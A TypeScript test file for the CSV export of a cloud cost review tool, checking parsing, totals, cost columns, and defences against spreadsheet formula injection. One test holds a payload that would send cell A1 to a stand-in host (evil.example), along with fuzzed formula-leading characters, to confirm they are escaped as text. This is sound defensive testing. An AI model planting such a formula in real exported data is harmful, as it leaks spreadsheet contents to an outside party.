import assert from 'node:assert/strict'
import { join } from 'node:path'
import fc from 'fast-check'
import { toDollars, usd } from '../../core/domain/money.ts'
import { unknown } from '../../core/domain/value.ts'
import { renderers } from '../../core/render/index.ts'
import { matchesGolden } from '../support/golden.ts'
import { inspected, inspection, reviewOf } from '../support/review.ts'
import { anyReview, hostileText } from './arbitrary-review.ts'
import { fraudEndpointReview } from './fraud-endpoint.ts'
import { inspectedPlatform } from './inspected-platform.ts'

const OPTIONS = { colour: false, width: 80 }

/** Reads RFC 4180 to the letter: CRLF after every record, quotes only around whole fields. */
function parseCsv(text: string): string[][] {
  const records: string[][] = []
  let record: string[] = []
  const field = /(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/y
  while (field.lastIndex < text.length) {
    const at = field.lastIndex
    const [, quoted, plain, end] =
      field.exec(text) ?? assert.fail(`no field at ${at}: ${text.slice(at, at + 40)}`)
    record.push(quoted === undefined ? plain! : quoted.replaceAll('""', '"'))
    if (end === ',') continue
    records.push(record)
    record = []
  }
  return records
}

/** The records by the names of their columns. */
function rowsOf(text: string): readonly Readonly<Record<string, string>>[] {
  const [names, ...records] = parseCsv(text)
  return records.map((record) => {
    assert.equal(record.length, names!.length)
    return Object.fromEntries(record.map((cell, at) => [names![at]!, cell]))
  })
}

const inspectedRows = (told: ReturnType<typeof inspection>) => rowsOf(renderers.inspect.csv(told, OPTIONS))

describe('CSV', () => {
  it('reads well', () =>
    matchesGolden(
      renderers.review.csv(fraudEndpointReview(), OPTIONS),
      join(import.meta.dirname, 'goldens/fraud-endpoint.review.csv.golden'),
    ))

  it('has a line for each charge, and one for each part that has no figure, with the reason', () => {
    const rows = inspectedRows(inspectedPlatform())
    assert.deepEqual(
      rows.map(({ ResourceId, ListCost, x_Estimate }) => [ResourceId!.split('.')[0], ListCost, x_Estimate]),
      inspectedPlatform().resources.flatMap(({ resource: { type }, estimate }) => {
        if (estimate.kind !== 'priced') return [[type, estimate.kind === 'free' ? '0' : '', estimate.kind]]
        const charges = estimate.charges.map(({ listCost }) => [type, String(toDollars(listCost)), 'priced'])
        return [...charges, ...estimate.omissions.map(({ kind }) => [type, '', kind])]
      }),
    )
    for (const { ListCost, x_Because } of rows) assert.ok((ListCost === '') === (x_Because !== ''))
  })

  it("adds up to the review's totals", () => {
    fc.assert(
      fc.property(anyReview(), (review) => {
        const sums = { before: 0, after: 0 }
        for (const { x_Side, ContractedCost } of rowsOf(renderers.review.csv(review, OPTIONS)))
          sums[x_Side as 'before' | 'after'] += usd(Number(ContractedCost))
        const changed = review.resources.map(({ cost }) => cost)
        assert.equal(
          sums.before,
          changed.reduce((sum, { before }) => sum + before, 0),
        )
        assert.equal(
          sums.after,
          changed.reduce((sum, { after }) => sum + after, 0),
        )
      }),
      { numRuns: 100 },
    )
  })

  it('no cell is a formula, breaks a line, or hides anything', () => {
    const begin = fc.constantFrom('=', '+', '-', '@', '\t=', '\r=', ' =', '\u200b=', '＝', '')
    fc.assert(
      fc.property(begin, hostileText(), (start, text) => {
        const name = start + text
        const box = inspected(`aws_instance.${name}`, {
          monthly: 40,
          what: name,
          tags: { team: name },
          file: name,
        })
        const csv = renderers.inspect.csv(inspection([box]), OPTIONS)
        const rows = parseCsv(csv)
        assert.equal(rows.length, 2)
        for (const cell of rows.flat()) {
          assert.doesNotMatch(cell, /^\s*[=+\-@＝＋－＠]/)
          assert.doesNotMatch(cell, /[\p{Cc}\p{Cf}\u2028\u2029]/u)
        }
      }),
      { numRuns: 500 },
    )
  })

  it('a command in a tag is text, and a discount is a number', () => {
    const box = inspected('aws_instance.train', {
      tags: { team: '=HYPERLINK("https://evil.example?"&A1,"x")', model_id: 'a;=b', project: 'risk, "ml"' },
      charges: [{ description: 'Credit', listUnitPrice: -1.5, listCost: usd(-1095) }],
    })
    const csv = renderers.inspect.csv(inspection([box]), OPTIONS)
    assert.match(csv, /,"'=HYPERLINK\(""https:\/\/evil\.example\?""&A1,""x""\)",/)
    assert.match(csv, /,"a;=b",/)
    const [row] = rowsOf(csv)
    assert.equal(row!.x_Project, 'risk, "ml"')
    assert.deepEqual([row!.ListUnitPrice, row!.ListCost], ['-1.5', '-1095'])
  })

  it('who pays is known, not said, or not known', () => {
    const tags = { team: 'risk-ml', model_id: unknown('var.model has no default') }
    const [row] = inspectedRows(inspection([inspected('aws_instance.train', { monthly: 40, tags })]))
    assert.deepEqual([row!.x_Team, row!.x_Model, row!.x_Phase], ['risk-ml', '(not known)', ''])
  })

  it('both sides of a changed resource are there, at what is paid', () => {
    const side = (monthly: number) =>
      inspection([
        inspected('aws_instance.train', {
          charges: [
            {
              listCost: usd(monthly),
              contracted: { unitPrice: 0.5, cost: usd(monthly / 2), percent: 50, note: undefined },
            },
          ],
        }),
      ])
    const rows = rowsOf(renderers.review.csv(reviewOf(side(100), side(300)), OPTIONS))
    assert.deepEqual(
      rows.map(({ x_Side, ListCost, ContractedUnitPrice, ContractedCost }) => [
        x_Side,
        ListCost,
        ContractedUnitPrice,
        ContractedCost,
      ]),
      [
        ['before', '100', '0.5', '50'],
        ['after', '300', '0.5', '150'],
      ],
    )
  })
})
